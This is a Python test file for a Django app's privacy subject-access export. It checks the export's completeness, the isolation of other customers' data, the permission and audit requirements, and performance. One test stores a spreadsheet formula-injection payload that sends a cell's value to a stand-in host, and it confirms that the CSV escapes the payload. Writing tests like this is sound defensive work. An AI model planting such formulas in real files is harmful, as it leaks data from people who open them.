"""P1: the subject-access export holds every personal and financial-record field of the customer's
rows in every table, and nothing of any other customer; CSV parts are spreadsheet-safe (S7)."""

import csv
import io
import json
import time
import zipfile
from decimal import Decimal

import pytest
from django.core.files.storage import default_storage
from django.db.models import F

from patron.core.errors import PermissionDenied
from patron.core.jsonable import jsonable
from patron.core.models import AuditEvent
from patron.core.permissions import Role
from patron.credit.models import CreditAccount, LedgerEntry
from patron.customers import actions
from patron.privacy import inventory
from patron.privacy.export import export_customer, exported_columns
from patron.privacy.models import PrivacyRequest, RequestKind
from patron.privacy.relations import rows_of
from patron.privacy.tests.conftest import CANARY, OTHER
from patron.staff.tests.factories import actor_for

pytestmark = pytest.mark.django_db

EVERY_TABLE = {
    "customers.Customer", "customers.CustomerPhone", "customers.CustomerEmail", "customers.Address",
    "customers.Contact", "customers.Representation", "customers.Message", "marketing.ConsentEvent",
    "sales.Sale", "sales.SaleLine", "sales.SalePayment", "credit.CreditAccount", "credit.LedgerEntry",
    "loyalty.PointsAccount", "loyalty.PointsEntry", "core.AuditEvent",
}


def exported(customer, system) -> zipfile.ZipFile:
    stream = io.BytesIO()
    export_customer(actor=system, customer=customer, stream=stream)
    return zipfile.ZipFile(io.BytesIO(stream.getvalue()))


def all_text(archive: zipfile.ZipFile) -> str:
    return "\n".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist()
                     if not name.startswith("photo/")).lower()


def test_the_export_holds_every_field_of_every_table_for_the_customer(rich, other, system):
    archive = exported(rich.customer, system)
    manifest = json.loads(archive.read("manifest.json"))
    tables = {part["table"]: part for part in manifest["parts"]}
    assert set(tables) >= EVERY_TABLE
    for table, part in tables.items():
        model = next(model for model in inventory.stored_models()
                     if f"{model._meta.app_label}.{model.__name__}" == table)
        wanted = [field.name for field in exported_columns(model)]
        assert set(inventory.fields_of_class(model, "personal", "financial-record")) <= set(exported_columns(model))
        rows = json.loads(archive.read(part["json"]))
        # Every row of the customer, every exported field, the same value as in the database.
        expected = [{name: jsonable(value) for name, value in _values(model, row, wanted).items()}
                    for row in rows_of(model, rich.customer) if getattr(row, "action", "") != "privacy.exported"]
        assert rows == expected, table
        table_csv = list(csv.reader(io.StringIO(archive.read(part["csv"]).decode("utf-8-sig"))))
        assert table_csv[0] == wanted and len(table_csv) == len(rows) + 1
    assert len(json.loads(archive.read("credit.LedgerEntry.json"))) == 3
    # The canary values are all there, and the photo as stored.
    text = all_text(archive)
    assert [value for value in CANARY.values() if value.lower() not in text] == []
    with default_storage.open(rich.customer.photo, "rb") as photo:
        assert archive.read(manifest["photo"]) == photo.read()
    # Nothing of the other customer.
    assert [value for value in OTHER.values() if value.lower() in text] == []
    assert str(other.customer.uuid) not in text and other.customer.account_number.lower() not in text


def _values(model, row, names):
    values = {}
    for name in names:
        field = model._meta.get_field(name)
        if field.many_to_many:
            values[name] = sorted(str(member) for member in getattr(row, name).all())
        else:
            values[name] = getattr(row, field.attname)
    return values


def test_the_export_is_recorded_and_audited_and_needs_privacy_manage(rich, system):
    for role in (Role.CASHIER, Role.MANAGER):
        with pytest.raises(PermissionDenied):
            exported(rich.customer, actor_for(role))
    assert not PrivacyRequest.objects.exists()
    exported(rich.customer, system)
    request = PrivacyRequest.objects.get()
    assert (request.kind, request.customer_uuid, request.status) == (RequestKind.EXPORT, rich.customer.uuid, "done")
    assert request.completed_at == request.received_at
    assert AuditEvent.objects.filter(action="privacy.exported", customer_uuid=rich.customer.uuid).count() == 1


def test_csv_parts_are_spreadsheet_safe(rich, system):
    formula = '=HYPERLINK("http://x/?"&A1,"click")'
    actions.update_customer(actor=system, customer=rich.customer, values={"notes": formula})
    archive = exported(rich.customer, system)
    rows = list(csv.DictReader(io.StringIO(archive.read("customers.Customer.csv").decode("utf-8-sig"))))
    assert rows[0]["notes"] == "'" + formula
    assert json.loads(archive.read("customers.Customer.json"))[0]["notes"] == formula


def test_ten_thousand_ledger_entries_are_exported_in_chunks_within_a_minute(rich, system):
    account = CreditAccount.objects.get(customer=rich.customer)
    start = account.last_sequence
    entries = [LedgerEntry(account=account, sequence=start + number, kind="charge", amount=Decimal("1.00"),
                           balance_after=account.balance + number, effective_date=rich.long_ago.date(),
                           reference=f"bulk {number}", actor_label="test")
               for number in range(1, 10_001)]
    LedgerEntry.objects.bulk_create(entries, batch_size=2000)
    CreditAccount.objects.filter(pk=account.pk).update(balance=F("balance") + 10_000, last_sequence=start + 10_000)
    began = time.monotonic()
    archive = exported(rich.customer, system)
    elapsed = time.monotonic() - began
    rows = list(csv.reader(io.StringIO(archive.read("credit.LedgerEntry.csv").decode("utf-8-sig"))))
    assert len(rows) == 1 + 3 + 10_000
    assert len(json.loads(archive.read("credit.LedgerEntry.json"))) == 10_003
    assert elapsed < 60
